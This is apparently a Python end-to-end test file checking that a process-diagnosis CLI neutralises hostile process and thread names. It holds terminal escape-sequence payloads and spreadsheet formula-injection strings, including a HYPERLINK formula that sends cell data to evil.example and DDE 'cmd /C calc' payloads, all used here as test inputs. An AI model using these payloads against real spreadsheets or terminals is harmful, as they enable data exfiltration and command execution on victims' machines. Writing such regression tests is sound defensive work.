"""What a target names itself reaches people inert (issue 17, findings 4 and 7), with real
processes captured by the real CLI.

- A wrapper whose ``comm`` is an escape sequence (a link to /bin/sh named so): the note
  diagnose prints when it follows the wrapper's Python child showed it raw on 8e0de8b.
- Thread names and kernel thread names that are spreadsheet formulas: stored as they were
  in ``python/threads.csv`` and ``proc/threads.csv``, files people open in spreadsheets,
  on 8e0de8b; now guarded there and given back exactly by the reader and in report.json.
"""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path

import pytest

from diagnose.bundle.reader import Bundle
from tests.e2e.cli import run_cli
from tests.e2e.safety import started

WORKERS = """
import ctypes, ctypes.util, sys, threading, time
libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6")
def run(comm):
    libc.prctl(15, ctypes.c_char_p(comm.encode()[:15]), 0, 0, 0)
    while True:
        sum(i * i for i in range(3000))
for name in sys.argv[2:]:
    threading.Thread(target=run, args=(name,), name=name, daemon=True).start()
print("ready", flush=True)
time.sleep(float(sys.argv[1]))
"""
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
ESCAPES = "\x1b]0;PWND\x07\x1b[2J"


def test_a_wrappers_escape_sequence_name_is_shown_not_sent(tmp_path):
    # GIVEN a shell wrapper whose comm is an escape sequence, with a busy Python child
    wrapper = tmp_path / ESCAPES
    wrapper.symlink_to("/bin/sh")
    script = f"{sys.executable} -c '{WORKERS}' 60 worker; true"
    with started([str(wrapper), "-c", script]) as proc:
        # WHEN diagnose attaches to the wrapper and follows its child
        res = run_cli(
            "attach", str(proc.pid), "-d", "2", "-o", str(tmp_path / "b"), "--format", "json"
        )
    assert res.returncode in (0, 5), res.stderr
    # THEN the note naming the wrapper reached the terminal (in the summary) without escapes
    said = " ".join((res.stdout + res.stderr).split())
    assert "is a wrapper" in said and "following PID" in said, said
    assert "\x1b" not in res.stderr and "\x07" not in res.stderr
    assert "\\x1b]0;PWND" in said
    assert "\x1b" not in res.stdout and "\x07" not in res.stdout


@pytest.fixture(scope="module")
def formula_bundle(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("formulas") / "b"
    with started([sys.executable, "-c", WORKERS, "60", *FORMULAS]) as proc:
        res = run_cli("attach", str(proc.pid), "-d", "6", "-o", str(out), "--format", "json")
    assert res.returncode in (0, 5), res.stderr
    return out


def cells(path: Path, column: str) -> list[str]:
    with path.open(newline="") as fh:
        return [row[column] for row in csv.DictReader(fh)]


def test_formula_names_are_guarded_in_the_tables_people_open(formula_bundle):
    # the capture has the names (the test means something only then)
    py = cells(formula_bundle / "python" / "threads.csv", "name")
    comm = set(cells(formula_bundle / "proc" / "threads.csv", "comm"))
    assert {"'" + f for f in FORMULAS} <= set(py), py
    assert {"'" + f[:15] for f in FORMULAS} <= comm, comm
    # no cell of theirs starts a formula
    for values in (py, comm):
        assert not [v for v in values if v.startswith(("=", "+", "-", "@"))]


def test_formula_names_come_back_exact(formula_bundle):
    b = Bundle.open(formula_bundle)
    names = set(b.table("python/threads.csv", ["tid"], {"tid": "int"})["name"])
    comms = set(b.table("proc/threads.csv", ["tid"], {"tid": "int"})["comm"])
    assert set(FORMULAS) <= names and {f[:15] for f in FORMULAS} <= comms
    report = json.loads((formula_bundle / "report.json").read_text())
    assert set(FORMULAS) <= {t["name"] for t in report["threads"]}
